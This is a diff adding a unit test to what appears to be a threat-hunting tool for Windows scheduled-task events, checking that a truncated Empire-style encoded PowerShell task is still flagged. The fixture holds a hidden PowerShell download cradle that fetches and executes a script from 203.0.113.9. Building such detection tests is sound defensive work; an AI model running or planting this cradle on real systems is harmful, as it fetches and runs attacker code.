@@ -494,3 +494,22 @@ def test_the_address_of_an_rpc_session_comes_from_the_callers_logon_just_before(
     narrow, _ = task_definitions(groups(starts), starts, events, HuntParams(), config=load_task_config(path))
     entry, = narrow.loc[0, "TaskDefinitions"]
     assert (entry["RegisteredFromNetworkLogon"], entry["RemoteIP"], entry["RemoteIPFrom"]) == (True, None, None)
+
+
+def test_a_cut_off_registration_keeps_its_command_line_signals():
+    """OTRF's 4702: Empire's encoded PowerShell cut mid-way still reads as an encoded command and
+    a download cradle (the signals read the decoded part that is there), and says Truncated."""
+    import base64
+
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); " + "$x=1;" * 400
+    arguments = "-NoP -sta -NonI -W Hidden -Enc " + base64.b64encode(cradle.encode("utf-16-le")).decode()
+    text = xml_content(spec(actions=[("powershell", arguments)]))
+    cut = text[:text.index("-Enc ") + 2000]
+    rows = [registration("\\Cut", cut, device="pc-09", action="ScheduledTaskUpdated")]
+    starts = frame([whoami_launch()])
+    with pytest.warns(DataWarning, match="1 task registration row.s. cut off"):
+        _, table = task_definitions(groups(starts), starts, TaskEvents(registrations=frame(rows)), HuntParams())
+    row = table.iloc[0]
+    assert row["TaskName"] == "\\Cut" and bool(row["Truncated"]) and row["Command"] == "powershell"
+    assert arguments.startswith(row["Arguments"]) and len(row["Arguments"]) < len(arguments)
+    assert {"encoded_command", "download_cradle", "hidden_or_bypass"} <= set(row["Reasons"])
